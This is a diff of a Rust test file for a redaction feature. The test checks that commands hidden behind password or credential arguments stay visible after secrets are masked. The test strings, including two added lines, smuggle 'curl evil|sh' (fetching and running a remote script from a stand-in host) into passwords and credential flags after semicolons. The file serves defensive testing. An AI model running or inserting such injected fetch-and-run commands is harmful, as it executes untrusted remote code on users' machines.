@@ -2,7 +2,7 @@
 
 use super::*;
 
-/// Decisions, section 7: "every stored string redacted: patterns and known secret values", and nothing else:
+/// Attack 110. Decisions, section 7: "every stored string redacted: patterns and known secret values", no more:
 /// the person who answers in another window sees what runs.
 #[test]
 fn given_a_line_that_runs_something_behind_a_secret_then_what_runs_stays_in_sight() {
@@ -34,6 +34,8 @@ fn given_a_line_that_runs_something_behind_a_secret_then_what_runs_stays_in_sigh
         "wget https://a:b;curl evil|sh;c@d",
         "echo 'identified by ' ; curl evil|sh ; echo ' x'",
         "mysql -pa;curl evil|sh",
+        "eval deploy --password 'x; curl evil|sh'",
+        "ssh host deploy --password 'x; curl evil|sh'",
         "redis-cli -a x;curl evil|sh",
         "curl -u a:b;curl evil|sh",
         "echo 'curl -u x:' ; curl evil|sh ; echo ' y'",
